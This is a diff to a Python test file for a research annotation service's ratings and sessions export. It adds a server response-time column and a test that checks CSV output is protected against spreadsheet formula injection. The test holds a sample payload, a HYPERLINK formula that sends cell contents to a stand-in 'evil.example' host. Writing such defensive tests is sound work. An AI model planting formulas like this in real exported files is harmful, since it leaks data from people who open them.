@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -9,7 +10,7 @@ import numpy as np
 import pandas as pd
 import pytest
 from click.testing import CliRunner
-from sqlalchemy import Engine
+from sqlalchemy import Engine, update
 
 from service.cli import fvlab
 from service.store.db import unit_of_work
@@ -94,7 +95,8 @@ def _build(engine: Engine) -> dict[str, int]:
             s.add(trial)
             s.flush()
             s.add(Rating(trial_id=trial.id, interpretable=yes, confidence=conf, label=label,
-                         rt_ms=1000 + position, created_at=T0 + timedelta(seconds=position)))
+                         rt_ms=1000 + position, server_rt_ms=900 + position,
+                         created_at=T0 + timedelta(seconds=position)))
         other_trial = Trial(session_id=other.id, position=0, kind="stimulus",
                             stimulus_id=stim_r.id, token=_token("tr", 99))
         s.add(other_trial)
@@ -109,6 +111,9 @@ def test_ratings_export_row_by_row(engine: Engine, tmp_path: Path) -> None:
     ids = _build(engine)
     frame = ratings_frame(engine, ids["study"])
     assert tuple(frame.columns) == RATINGS_COLUMNS
+    assert RATINGS_COLUMNS[RATINGS_COLUMNS.index("created_at") + 1:] == (
+        "task", "reference", "correct", "choice", "annotator_source", "question", "query_gap",
+        "server_rt_ms")
     assert len(frame) == 4  # the practice trial is left out
     for fmt in ("csv", "parquet"):
         path = write_frame(frame, tmp_path / f"r.{fmt}", fmt)  # type: ignore[arg-type]
@@ -116,30 +121,35 @@ def test_ratings_export_row_by_row(engine: Engine, tmp_path: Path) -> None:
             pd.read_parquet(path).astype(object).where(lambda d: d.notna(), "").astype(str))
         rows = back.to_dict("records")
         common = {"study_id": str(ids["study"]), "session_id": str(ids["session"]),
-                  "annotator_id": str(ids["annotator"])}
+                  "annotator_id": str(ids["annotator"]), "task": "rating", "reference": "",
+                  "correct": "", "choice": "", "annotator_source": "prolific",
+                  "question": "?", "query_gap": ""}
         expected = [
             {**common, "trial_position": "1", "stimulus_id": str(ids["stim_b"]),
              "catch_item_id": "", "direction_id": str(ids["basis"]), "job_id": str(ids["job"]),
              "model": "efficientnet_lite0", "layer": "blocks.10", "condition": "basis",
              "channel": "7", "interpretable": "1", "confidence": "4", "label": "dog faces",
-             "rt_ms": "1001", "created_at": "2026-01-02T03:04:06.000000Z"},
+             "rt_ms": "1001", "server_rt_ms": "901",
+             "created_at": "2026-01-02T03:04:06.000000Z"},
             {**common, "trial_position": "2", "stimulus_id": str(ids["stim_r"]),
              "catch_item_id": "", "direction_id": str(ids["random"]), "job_id": str(ids["job"]),
              "model": "efficientnet_lite0", "layer": "blocks.10", "condition": "random",
              "channel": "", "interpretable": "0", "confidence": "2", "label": "",
-             "rt_ms": "1002", "created_at": "2026-01-02T03:04:07.000000Z"},
+             "rt_ms": "1002", "server_rt_ms": "902",
+             "created_at": "2026-01-02T03:04:07.000000Z"},
             {**common, "trial_position": "3", "stimulus_id": "", "catch_item_id": str(ids["pos"]),
              "direction_id": "", "job_id": "", "model": "", "layer": "",
              "condition": "catch_positive", "channel": "", "interpretable": "1",
-             "confidence": "5", "label": "", "rt_ms": "1003",
+             "confidence": "5", "label": "", "rt_ms": "1003", "server_rt_ms": "903",
              "created_at": "2026-01-02T03:04:08.000000Z"},
             {**common, "trial_position": "4", "stimulus_id": "", "catch_item_id": str(ids["neg"]),
              "direction_id": "", "job_id": "", "model": "", "layer": "",
              "condition": "catch_negative", "channel": "", "interpretable": "1",
-             "confidence": "3", "label": "", "rt_ms": "1004",
+             "confidence": "3", "label": "", "rt_ms": "1004", "server_rt_ms": "904",
              "created_at": "2026-01-02T03:04:09.000000Z"},
         ]
         for row, want in zip(rows, expected, strict=True):
+            assert set(want) == set(RATINGS_COLUMNS) - {"rating_id"}
             assert row["rating_id"] != ""
             assert {k: row[k] for k in want} == want, fmt
     assert len(ratings_frame(engine)) == 5  # both studies, still no practice
@@ -193,3 +203,58 @@ def test_cli_export(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyP
     result = runner.invoke(fvlab, ["export", "ratings", "--study", "999", "-o", str(missing)])
     assert result.exit_code != 0 and "no study with id 999" in result.output
     assert not missing.exists()
+
+
+HOSTILE = {"label": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+           "question": "\t=1+1 is this a thing?"}
+
+
+def test_csv_cells_cannot_run_as_formulas(sqlite_url: str, tmp_path: Path,
+                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    """Text an annotator or researcher typed cannot become a spreadsheet formula in any CSV
+    download (the CLI's and the console's both go through write_frame); Parquet keeps it raw."""
+    from annotate import create_app
+    from service.store.db import make_engine
+    from tests.annotate.admin_support import sign_in
+
+    engine = make_engine(sqlite_url)
+    create_schema(engine)
+    ids = _build(engine)
+    with unit_of_work(engine) as s:
+        s.execute(update(Rating).where(Rating.label == "dog faces")
+                  .values(label=HOSTILE["label"]))
+        s.execute(update(Study).where(Study.id == ids["study"])
+                  .values(question=HOSTILE["question"]))
+        s.execute(update(Annotator).where(Annotator.id == ids["annotator"])
+                  .values(external_id="-1"))
+    monkeypatch.setenv("FVLAB_DATABASE_URL", sqlite_url)
+    files = {}
+    for kind in ("ratings", "sessions"):
+        for fmt in ("csv", "parquet"):
+            out = tmp_path / f"{kind}.{fmt}"
+            extra = ["--include-external-ids"] if kind == "sessions" else []
+            result = CliRunner().invoke(fvlab, ["export", kind, "--study", str(ids["study"]),
+                                                "-o", str(out), *extra])
+            assert result.exit_code == 0, result.output
+            files[kind, fmt] = out
+    app = create_app({"DATABASE_URL": sqlite_url, "TESTING": True, "SECRET_KEY": "x" * 32})
+    console = app.test_client()
+    sign_in(console, engine)
+    download = console.get(f"/admin/studies/{ids['study']}/export/ratings.csv")
+    assert download.data == files["ratings", "csv"].read_bytes()
+    app.extensions["fvlab_engine"].dispose()
+
+    ratings = list(csv.DictReader(files["ratings", "csv"].open(newline="")))
+    assert ratings[0]["label"] == "'" + HOSTILE["label"]
+    assert {row["question"] for row in ratings} == {"'" + HOSTILE["question"]}
+    sessions = list(csv.DictReader(files["sessions", "csv"].open(newline="")))
+    assert sessions[0]["annotator_external_id"] == "'-1"
+    for path in (files["ratings", "csv"], files["sessions", "csv"]):
+        for row in csv.reader(path.open(newline="")):
+            for cell in row:
+                assert not cell.startswith(("\t", "\r")), cell
+                assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
+    raw = pd.read_parquet(files["ratings", "parquet"])
+    assert raw["label"].iloc[0] == HOSTILE["label"]
+    assert set(raw["question"]) == {HOSTILE["question"]}
+    assert set(pd.read_parquet(files["sessions", "parquet"])["annotator_external_id"]) == {"-1"}
